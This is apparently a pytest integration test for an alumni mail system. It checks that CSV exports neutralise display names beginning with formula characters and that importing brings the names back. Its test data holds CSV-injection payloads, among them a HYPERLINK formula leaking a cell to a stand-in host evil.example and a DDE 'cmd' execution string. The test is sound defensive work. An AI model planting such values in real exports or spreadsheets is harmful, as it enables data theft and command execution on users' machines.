"""Names alumni give themselves reach `alumail export --format csv` as text a spreadsheet will
not run, and the export's import columns bring the same names back."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from mailstack.settings import Settings
from provisioning.bulk.importer import COLUMNS
from provisioning.people.accounts import AccountService
from tests.support import NewAccount, alumail

pytestmark = pytest.mark.integration

YEAR = "1911"  # no other test's accounts graduated then
NAMES = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_formula_names_export_inert_and_import_back(
    live_stack: Settings, new_account: NewAccount, accounts: AccountService, tmp_path: Path
) -> None:
    made = [new_account(name=name, graduation_year=int(YEAR))[0] for name in NAMES]
    out = tmp_path / "export.csv"
    alumail(live_stack, "export", "--format", "csv", "--year", YEAR, "-o", str(out), check=True)
    with open(out, newline="", encoding="utf-8") as handle:
        exported = {row["uid"]: row for row in csv.DictReader(handle)}
    for account, name in zip(made, NAMES, strict=True):
        assert exported[account.uid]["display_name"] == "'" + name
    for account in made:
        accounts.modify(account.uid, display_name="Changed Meanwhile")
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        writer.writerows([row[c] for c in COLUMNS] for row in exported.values())
    result = alumail(live_stack, "import", str(roster), "--json", check=True)
    assert json.loads(result.stdout)["updated"] == len(NAMES)
    for account, name in zip(made, NAMES, strict=True):
        assert accounts.get(account.uid).display_name == name
